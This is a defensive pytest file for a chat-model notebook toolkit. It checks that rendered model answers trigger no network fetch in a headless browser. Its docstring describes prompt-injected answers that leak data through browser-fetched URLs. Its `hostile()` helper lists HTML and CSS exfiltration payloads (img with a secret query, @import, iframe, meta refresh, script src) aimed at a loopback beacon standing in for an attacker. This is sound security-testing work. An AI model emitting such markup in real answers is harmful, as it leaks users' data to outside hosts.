"""A model's answer, however it is shown, makes no network request in a real browser.

A prompt-injected answer can leak what it read through a URL it gets the browser to fetch
(an image, a stylesheet, a refresh). A beacon server on loopback stands for the attacker:
the answer comes from the real server (the deterministic model answers with the hostile
text), every rendering the toolkit shows it through (each ``--format``, streaming and final,
side-by-side columns, the task view) is loaded in headless Chromium, and the beacon must get
no request. The same markup loaded raw does reach the beacon, so the test can fail.
"""

from __future__ import annotations

import threading
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

import pytest

from owui_notebook.client.task_types import TaskResult
from owui_notebook.render import FORMATS
from owui_notebook.render.task_view import TaskDisplay
from owui_notebook.render.views import answer_html, body_html, columns_html
from owui_notebook.testing.browser import launch, playwright_or_skip


class Beacon:
    """An HTTP server on 127.0.0.1 that records the path of every request it gets."""

    def __init__(self) -> None:
        self.paths: list[str] = []
        paths = self.paths

        class Handler(BaseHTTPRequestHandler):
            def do_GET(self) -> None:
                paths.append(self.path)
                self.send_response(200)
                self.send_header("Content-Type", "image/gif")
                self.end_headers()

            do_POST = do_GET

            def log_message(self, *args: object) -> None:
                pass

        self.server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.url = f"http://127.0.0.1:{self.server.server_address[1]}"
        threading.Thread(target=self.server.serve_forever, daemon=True).start()

    def close(self) -> None:
        self.server.shutdown()
        self.server.server_close()


@pytest.fixture
def beacon():
    server = Beacon()
    yield server
    server.close()


def hostile(url: str) -> str:
    """An answer that tries every way HTML has to fetch a URL without a script."""
    return "\n\n".join(
        [
            "Here is the summary you asked for.",
            f"<img src={url}/img?secret=1>",
            f"![pixel]({url}/markdown-image)",
            f'<link rel="stylesheet" href="{url}/stylesheet">',
            f"<style>@import url({url}/import); body{{background:url({url}/bg)}}</style>",
            f'<div style="background-image:url({url}/inline-style)">styled</div>',
            f'<iframe src="{url}/frame"></iframe>',
            f'<object data="{url}/object"></object>',
            f'<video poster="{url}/poster"></video>',
            f'<meta http-equiv="refresh" content="0;url={url}/refresh">',
            f'<link rel="prefetch" href="{url}/prefetch">',
            f"<script src={url}/script></script>",
            "**done**",
        ]
    )


def renderings(text: str, result) -> list[str]:
    """The answer as each view the toolkit has shows it."""
    shown = [body_html(text, fmt) for fmt in FORMATS]
    shown.append(answer_html(text, final=False))
    shown += [answer_html(text, fmt=fmt, result=result) for fmt in FORMATS]
    shown.append(columns_html(["alpha", "beta"], [text, text], results=[result, result]))
    task = TaskDisplay("alpha", 3, rich=True)
    task.current = text  # a step streaming
    shown.append(task._render()[0])
    done = TaskResult(
        question="q",
        model="alpha",
        status="answered",
        answer=text,
        findings=[text],
        max_iterations=3,
    )
    shown.append(task._final(done, None)[0])
    return shown


def page_of(parts: list[str]) -> str:
    return "<!DOCTYPE html><html><head><title>answers</title></head><body>{}</body></html>".format(
        "\n<hr>\n".join(parts)
    )


def requests_made(browser, markup: str) -> None:
    """Load `markup` as a page and wait until the page and every frame have settled."""
    page = browser.new_page()
    try:
        page.set_content(markup, wait_until="load")
        page.wait_for_load_state("networkidle")
    finally:
        page.close()


def test_no_rendering_of_an_answer_fetches_anything(beacon, client, provider):
    sync_playwright, _ = playwright_or_skip("the no-network test")
    provider.configure("alpha", reply=hostile(beacon.url))
    result = client.chat("alpha").send("summarise the document")
    assert beacon.url in result.content  # the real server passed the hostile answer on
    with sync_playwright() as p:
        browser = launch(p)
        try:
            requests_made(browser, page_of([result.content]))
            assert beacon.paths, "the raw answer fetched nothing: the beacon does not work"
            beacon.paths.clear()
            requests_made(browser, page_of(renderings(result.content, result)))
        finally:
            browser.close()
    assert beacon.paths == []
